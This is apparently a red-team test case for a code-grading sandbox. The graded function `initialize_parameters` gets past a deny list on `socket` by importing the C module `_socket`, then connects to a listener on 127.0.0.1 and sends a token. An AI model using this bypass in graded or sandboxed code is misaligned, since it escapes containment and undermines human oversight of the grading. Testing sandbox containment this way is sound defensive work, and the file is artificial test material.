# RED-TEAM ATTACK (issue 9): open a network connection although `socket` is denied.
# Route: the C module _socket (sys.modules or a plain import: only `socket` is on the deny list),
#   connect to a listener of the grading machine on 127.0.0.1 and send a line; the listener records it.
# Contained when: the listener hears nothing, and initialize_parameters scores 0.
# attacked: initialize_parameters
# run: batch
import sys

LEAK = "REDTEAM" + "-LEAK: "


def initialize_parameters(n_x, n_h, n_y):
    try:
        _socket = sys.modules.get("_socket") or __import__("_socket")
    except ImportError:
        raise RuntimeError("no _socket")
    if "socket" not in getattr(_socket, "__dict__", {}):
        raise RuntimeError("_socket is a stand-in")
    connection = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)
    connection.settimeout(3)
    connection.connect(("127.0.0.1", __TCP_PORT__))
    connection.sendall(b"__TOKEN__ tcp\n")
    connection.close()
    raise RuntimeError(LEAK + "connected to 127.0.0.1:__TCP_PORT__")
